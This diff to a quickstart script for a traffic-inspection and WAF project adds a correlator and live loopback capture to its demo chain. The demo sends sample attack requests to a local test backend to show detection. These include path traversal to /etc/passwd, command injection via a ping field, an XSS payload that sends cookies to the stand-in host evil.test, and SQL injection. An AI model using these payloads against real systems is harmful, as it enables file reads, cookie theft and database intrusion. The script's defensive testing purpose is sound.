@@ -2,8 +2,9 @@
 # Quick start: install what is needed, build, and run what is built on traffic
 # the project generates — the TAP stream (dpi-collector on generated captures),
 # then the MITM stream (curl -> HAProxy -> mitmdump + addon -> dpi-bridge-mitm ->
-# dpi-buffer) with clean requests and attacks: live verdicts and deep-analysis
-# alerts. As root, from the top of the source tree:
+# dpi-buffer -> dpi-correlator) with clean requests and attacks: live verdicts,
+# deep-analysis alerts, correlated threats and the ban they cause. As root, from
+# the top of the source tree:
 #     deploy/quickstart.sh
 set -euo pipefail
 cd "$(dirname "$0")/.."
@@ -20,6 +21,7 @@ trap '[ -n "$tail_pid" ] && kill "$tail_pid" 2> /dev/null; chain_stop; rm -rf "$
 cat > "$run/dpi-dual.yaml" <<YAML
 global:
   run_dir: $run/run
+  state_dir: $run/state
 YAML
 
 echo "== sample traffic: captures made by dpi-pcapgen (HTTP over TCP, DNS over IPv4 and IPv6,"
@@ -59,7 +61,9 @@ PY
 echo
 echo "== the MITM stream: HAProxy (TLS) -> mitmdump + the dpi_bridge.py addon -> backend;"
 echo "   dpi-bridge-mitm gives live verdicts (ban list, fast rules), dpi-buffer analyses"
-echo "   every request off the request path with the OWASP CRS (ModSecurity)"
+echo "   every request off the request path with the OWASP CRS (ModSecurity); dpi-collector"
+echo "   captures the same connections on loopback (the TAP stream) and dpi-correlator joins"
+echo "   both, scores each client and bans"
 chain_ports 3
 read -r p_back p_mitm p_tls <<< "${CHAIN_PORTS[*]}"
 cat >> "$run/dpi-dual.yaml" <<YAML
@@ -71,18 +75,29 @@ mitm:
 buffer:
   modsecurity_conf: $PWD/deploy/buffer/modsecurity.conf
   analysis_threads: 2
+tap:
+  interface: lo
+  bpf: "tcp port $p_tls"
 YAML
 chain_tls
 chain_haproxy "$p_tls" "$p_mitm"
 chain_spawn "$run/backend.log" python3 tests/mitm/backend.py "$p_back" "$run/backend.hits"
 chain_spawn "$run/bridge.log" build/bridge-mitm/dpi-bridge-mitm -c "$run/dpi-dual.yaml"
 chain_spawn "$run/buffer.log" build/buffer/dpi-buffer -c "$run/dpi-dual.yaml"
+chain_spawn "$run/correlator.log" build/correlator/dpi-correlator -c "$run/dpi-dual.yaml"
+# the TAP side of the same connections: dpi-collector capturing loopback live, so the
+# correlator joins each request to its flow by Community ID
+chain_spawn "$run/collector.log" build/collector/dpi-collector -c "$run/dpi-dual.yaml"
 chain_spawn "$run/tail.err" sh -c "exec build/ctl/dpi-dualctl tail -c '$run/dpi-dual.yaml' \
-    mitm.verdict buffer.alert > '$run/mitm.jsonl'"
+    mitm.verdict buffer.alert correlated.threat decision > '$run/mitm.jsonl'"
 chain_mitmdump "$run/mitm.log" "$p_mitm" "$p_back" "$run/run/bridge-mitm.sock" \
     --set dpi_verdict_deadline_ms=20
 chain_spawn "$run/haproxy.log" haproxy -db -f "$run/haproxy.cfg"
 chain_wait 30 test -S "$run/run/buffer.query" || fail "dpi-buffer did not start (see $run/buffer.log)"
+chain_wait 30 test -S "$run/run/correlator.query" \
+    || fail "dpi-correlator did not start (see $run/correlator.log)"
+chain_wait 30 test -S "$run/run/collector.pub" \
+    || fail "dpi-collector did not start (see $run/collector.log)"
 chain_wait 30 port_open "$p_mitm" || fail "mitmdump did not start"
 chain_wait 10 port_open "$p_tls" || fail "haproxy did not start"
 
@@ -105,16 +120,26 @@ done <<REQS
 127.0.0.4 $url/view?file=../../../../etc/passwd
 127.0.0.5 $url/ping?host=127.0.0.1%3Bcat%20/etc/passwd
 127.0.0.6 $url/comment --data text=%3Cscript%3Edocument.location%3D%27//evil.test/%27%2Bdocument.cookie%3C/script%3E
+127.0.0.3 $url/search?q=1%27%20or%201%3D1--
 REQS
 sleep 3
+echo "(127.0.0.3 again, a clean request, after its second injection:)"
+printf '%-10s %-62s %s\n' 127.0.0.3 "$url/" "$(req 127.0.0.3 "$url/")"
 echo
-echo "== what the bridge blocked live (mitm.verdict) and what dpi-buffer found (buffer.alert):"
+echo "== what the bridge blocked live (mitm.verdict), what dpi-buffer found (buffer.alert),"
+echo "   what dpi-correlator made of both (correlated.threat: points, the client's reputation)"
+echo "   and the ban it published (decision) — which the bridge enforces on the next request:"
 python3 - "$run/mitm.jsonl" <<'PY'
 import json, sys
 for line in open(sys.argv[1]):
     m = json.loads(line)
     if m["topic"] == "mitm.verdict":
-        print(f"verdict  {m['client_ip']:<10} {m['action']:<6} rule {m['rule_id']} ({m['category']})")
+        print(f"verdict  {m['client_ip']:<10} {m['action']:<6} {m['reason']} {m['rule_id']} ({m['category']})")
+    elif m["topic"] == "correlated.threat":
+        print(f"threat   {m['client_ip']:<10} {m['event_type']:<10} +{m['score']:<3} reputation "
+              f"{m['reputation']:>3}  joined by {m['join']}{'  -> BAN' if m['banned'] else ''}")
+    elif m["topic"] == "decision":
+        print(f"decision {m['value']:<10} {m['action']} for {m['duration_s']} s ({m['origin']}): {m['reason']}")
     else:
         rules = ",".join(m["rule_ids"][:6])
         pl = f"replay PL{m['paranoia']}" if m["replay"] else f"PL{m['paranoia']}"
